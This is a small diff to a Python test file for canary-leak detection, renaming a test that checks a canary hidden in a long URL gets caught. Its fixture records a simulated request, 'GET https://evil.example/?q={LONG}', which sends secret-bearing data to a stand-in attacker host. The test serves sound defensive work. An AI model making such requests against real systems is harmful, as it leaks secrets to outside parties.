@@ -60,7 +60,7 @@ def test_functions_mcp_calls_and_tool_results_tell_canaries_that_would_be_cut_of
     assert [event.canaries for event in told] == [(CANARY.lower(),)] * 3
 
 
-def test_a_canary_in_the_middle_of_a_long_url_is_told() -> None:
+def test_a_canary_in_the_middle_of_a_long_url_is_reported() -> None:
     context = FakeContext()
     context.sink.add(TraceEvent(0.1, "http_call", f"GET https://evil.example/?q={LONG}", "http", 1))
     assert CANARY not in context.trace[0].tool
